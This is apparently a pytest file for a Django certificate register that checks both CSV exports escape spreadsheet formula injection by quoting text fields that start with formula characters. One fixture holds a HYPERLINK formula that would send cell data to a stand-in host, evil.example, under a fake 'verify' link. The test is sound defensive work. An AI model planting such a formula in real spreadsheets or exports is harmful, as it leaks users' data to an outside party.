"""Formula injection (issue 16): both CSV exports of the register (the lookup page's
``Unduh CSV`` and the API's ``export.csv``) write a name that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return behind a single quote, and the value stays a number."""

import csv
import io
from decimal import Decimal

import pytest

from tests.factories import CertificateFactory

pytestmark = pytest.mark.django_db

EXPORTS = ["/registri/ekspor.csv", "/api/v1/certificates/export.csv"]
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik untuk verifikasi")'


@pytest.fixture(autouse=True)
def _fresh_cache():
    from django.core.cache import cache

    cache.clear()
    yield
    cache.clear()


def _rows(response) -> list[dict]:
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("url", EXPORTS)
def test_company_name_with_a_hyperlink_formula_is_written_as_text(client, url):
    certificate = CertificateFactory(company_name=HYPERLINK, tkdn_ik=Decimal("32.50"))
    (row,) = _rows(client.get(url))
    assert row["nomor_sertifikat"] == certificate.number
    assert row["perusahaan"] == "'" + HYPERLINK
    assert row["nilai_tkdn_ik"] == "32.50"


@pytest.mark.parametrize("url", EXPORTS)
def test_every_formula_prefix_in_every_text_column(client, url):
    names = {
        "=": "=1+1",
        "+": "+62 812 CMD",
        "-": "-2+3",
        "@": "@SUM(1;2)",
        "\t": "\t=1+1",
        "\r": "\r=1+1",
    }
    for index, name in enumerate(names.values()):
        CertificateFactory(
            company_name=name,
            product_name=name,
            product_brand=name,
            product_specification=name,
            tkdn_ik=Decimal("30.00") + index,
        )
    rows = _rows(client.get(url, {"sort": "tkdn_ik"}))
    assert len(rows) == len(names)
    for row, name in zip(rows, names.values(), strict=True):
        for column in ("perusahaan", "produk", "merek", "spesifikasi"):
            assert row[column] == "'" + name, (column, name)
        # Numbers and dates are not text: no quote.
        assert not row["nilai_tkdn_ik"].startswith("'")
        assert Decimal(row["nilai_tkdn_ik"]) >= 30
        assert not row["tanggal_terbit"].startswith("'")


@pytest.mark.parametrize("url", EXPORTS)
def test_ordinary_names_are_unchanged(client, url):
    CertificateFactory(company_name="CV Rotan Lestari", product_brand="A-1 + B")
    (row,) = _rows(client.get(url))
    assert row["perusahaan"] == "CV Rotan Lestari"
    assert row["merek"] == "A-1 + B"
